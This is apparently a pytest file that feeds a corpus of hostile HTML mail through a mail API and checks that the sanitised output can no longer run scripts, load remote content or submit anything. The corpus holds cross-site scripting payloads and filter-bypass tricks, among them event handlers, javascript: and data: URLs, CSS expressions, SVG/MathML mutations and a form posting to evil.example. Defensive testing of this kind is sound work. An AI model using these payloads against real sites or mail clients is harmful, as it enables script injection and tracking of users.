# SPDX-License-Identifier: MIT
# A hostile HTML corpus read through the mail API over a real Dovecot (docs/mail.md "HTML
# mail"): scripts, event handlers, CSS expressions and loads, forms, frames, remote images,
# data/javascript/vbscript URLs, SVG and MathML, meta refresh, base href, entity and case
# tricks, comments, CDATA and unclosed tags. The JSON's "html" is parsed again with Python's
# html.parser: nothing that runs, loads or submits may survive; the harmless text does.
import re
from html.parser import HTMLParser

from fixtures_mail import mail_system, start_mail_system  # noqa: F401  (pytest fixtures)
from test_mail import client, get, world  # noqa: F401  (world is a fixture)

HOSTILE = {
    "script": "<script>alert(1)</script><SCRIPT>alert(2)</SCRIPT><ScRiPt src=//x.example/a.js>"
              "</sCrIpT><scr<script>ipt>alert(3)</script>safe-script",
    "handlers": "<body onload=alert(1)><div onclick=\"x()\" ONMOUSEOVER=y>safe-div</div>"
                "<img src=x onerror=alert(1)><a href=https://ok.example/ onfocus=x>safe-link</a>"
                "<p/onmouseover=alert(1)>safe-p</p>",
    "css": "<style>@import 'http://x.example/s.css'; body{background:url(http://x.example/b)}"
           "</style><p style=\"background:url(http://x.example/a.png); color: red\">c1</p>"
           "<p style=\"width:expression(alert(1))\">c2</p>"
           "<p style=\"background:u\\72l(http://x.example/e)\">c3</p>"
           "<p style=\"-moz-binding:url(http://x.example/x.xml#x)\">c4</p>"
           "<p style=\"behavior:url(x.htc)\">c5</p><p style=\"color:red;/**/background:"
           "url(x)\">c6</p><p style=\"background-image: image-set('http://x.example/i' 1x)\">"
           "safe-css</p>",
    "forms": "<form action=http://evil.example/ method=post><input type=password name=p>"
             "<button formaction=javascript:alert(1)>go</button><textarea>t</textarea>"
             "<select><option>o</option></select><isindex action=javascript:x>"
             "<keygen>safe-form</form>",
    "remote": "<p>safe-remote</p><img src=\"http://tracker.example/p.gif?u=alice\" width=1>"
              "<img src=\"HTTPS://t.example/x.png\"><table background=\"http://x.example/b.png\">"
              "<tr><td>cell</td></tr></table>",
    "urls": "<a href=\"javascript:alert(1)\">u1</a><a href=\"JaVaScRiPt:alert(1)\">u2</a>"
            "<a href=\"vbscript:msgbox(1)\">u3</a><a href=\"data:text/html;base64,"
            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">u4</a>"
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"
            "<img src=\"javascript:alert(1)\"><a href=\"&#x6A;avascript:alert(1)\">u5</a>"
            "<a href=\"java&#x09;script:alert(1)\">u6</a><a href=\"  javascript:alert(1)\">u7</a>"
            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
            "&#0000112&#0000116&#0000058alert(1)\">u8</a><a href=\"jav&#x0A;ascript:alert(1)\">"
            "u9</a><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=safe-data>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><foreignObject><iframe "
           "src=javascript:alert(1)></iframe></foreignObject><a xlink:href=\"javascript:x\">"
           "<text>s</text></a></svg><math><mtext><table><mglyph><style><img src=x "
           "onerror=alert(1)></style></mglyph></table></mtext></math>safe-svg",
    "head": "<html><head><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"
            "<base href=\"javascript:/\"><link rel=stylesheet href=http://x.example/s.css>"
            "<title>t</title></head><body><meta http-equiv=refresh content=\"0;url=http://x\">"
            "<base href=http://evil.example/>safe-head</body></html>",
    "frames": "<iframe src=\"https://evil.example/\"></iframe><iframe srcdoc=\"<script>alert(1)"
              "</script>\"></iframe><frameset><frame src=x></frameset><object data=x.swf>"
              "<param name=a value=b></object><embed src=x.swf><applet code=x></applet>"
              "<IfRaMe SRC=x></iFrAmE><ImG sRc=x OnErRoR=alert(1)>safe-frames",
    "comments": "<!--<script>alert(1)</script>--><!--[if gte mso 9]><script>alert(2)</script>"
                "<![endif]--><![CDATA[<script>alert(3)</script>]]><!--><script>alert(4)"
                "</script>--><!--a--!><script>alert(5)</script><? xml ?>safe-comments",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"
                "<xmp><script>alert(1)</script></xmp><plaintext>safe-raw</plaintext>",
    "unclosed": "<div><p><b>safe-bold <i>it <a href=\"https://ok.example/\">link <table><tr>"
                "<td><img src=x onerror=\"alert(1)\" <a href=\"javascript:alert(1)\"",
}

# text after the hostile markup that is still there (default "safe-<case>")
SURVIVES = {"handlers": "safe-p", "forms": "first-forms", "frames": "first-frames",
            "noscript": "safe-raw", "unclosed": "safe-bold", "urls": "u9"}
FORBIDDEN = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
             "input", "button", "textarea", "select", "meta", "base", "link", "style", "svg",
             "math", "noscript", "xmp", "plaintext", "isindex", "keygen", "param"}
DATA_IMAGE = re.compile(r"^data:image/(png|gif|jpeg|jpg|webp)[;,]", re.I)


class Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def inert(html):
    """Asserts nothing in html runs, loads from elsewhere or submits; returns the parser."""
    p = Elements()
    p.feed(html)
    p.close()
    for tag, attrs in p.tags:
        assert tag not in FORBIDDEN, (tag, html)
        for name, value in attrs:
            value = value or ""
            assert not name.startswith("on"), (tag, name, html)
            assert name not in ("background", "action", "formaction", "srcdoc", "xlink:href",
                                "content", "http-equiv", "data"), (name, html)
            assert not re.search(r"(java|vb)script:", value, re.I), (name, value)
            if name == "href":
                assert re.match(r"^(https?:|mailto:)", value, re.I), value
            if name == "src":
                assert value.startswith("/api/v1/mail/messages/") or DATA_IMAGE.match(value), value
            if name == "data-tandem-src":
                assert re.match(r"^https?://", value, re.I), value
            if name == "style":
                assert not re.search(r"url\(|expression|@import|\\|behavior|binding|/\*|image-set",
                                     value, re.I), value
        if tag == "a" and any(n == "href" for n, _ in attrs):
            assert ("target", "_blank") in attrs, attrs
            assert ("rel", "noopener noreferrer") in attrs, attrs
    return p


def html_message(key, html):
    return (f"From: h@example.com\r\nTo: alice@example.com\r\nSubject: {key}\r\n"
            f"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            f"<p>first-{key}</p>{html}\r\n"
            ).encode()


def test_hostile_html_is_inert(world):  # noqa: F811
    keys = sorted(HOSTILE)
    for key in keys:
        world.mail.deliver("alice", html_message(key, HOSTILE[key]))
    alice = client(world, "alice")
    read = {}
    for uid, key in enumerate(keys, start=1):
        body, _ = get(alice, f"/api/v1/mail/messages/INBOX/{uid}")
        assert body["subject"] == key and body["has_html"] is True, body
        p = inert(body["html"])
        read[key] = (body, p)
        # the text rendering carries none of the scripts' code either (alert(3) of the
        # "<scr<script>ipt>" trick is text to a browser too)
        assert "alert(1)" not in (body["text"] or ""), (key, body["text"])
    # what is harmless survives: the text before each case (and after most: libxml2 recovers
    # some broken markup by dropping what follows), links, data images, safe CSS
    for key, (body, p) in read.items():
        text = "".join(p.text)
        assert f"first-{key}" in text, (key, body["html"])
        assert SURVIVES.get(key, f"safe-{key}") in text, (key, body["html"])
    body, p = read["handlers"]
    assert ("a", [("href", "https://ok.example/"), ("target", "_blank"),
                  ("rel", "noopener noreferrer")]) in p.tags, p.tags
    body, p = read["css"]
    assert ("p", [("style", "color: red")]) in p.tags, p.tags
    body, p = read["urls"]
    assert ("img", [("src", "data:image/png;base64,iVBORw0KGgo="), ("alt", "safe-data")]) in \
        p.tags, p.tags
    assert [t for t, a in p.tags if t == "a" and a] == [], p.tags  # no link kept its href
    # remote images: held back as data-tandem-src, reported
    body, p = read["remote"]
    assert body["remote_content"] is True, body
    assert ("img", [("data-tandem-src", "http://tracker.example/p.gif?u=alice"),
                    ("width", "1")]) in p.tags, p.tags
    assert ("img", [("data-tandem-src", "HTTPS://t.example/x.png")]) in p.tags, p.tags
    assert all(b["remote_content"] is False for k, (b, _) in read.items() if k != "remote")
    # unclosed tags are closed: the fragment is well-formed
    body, p = read["unclosed"]
    assert body["html"].count("<div>") == body["html"].count("</div>") == 1, body["html"]
    assert body["text"] == "first-unclosed\nsafe-bold it link", body["text"]
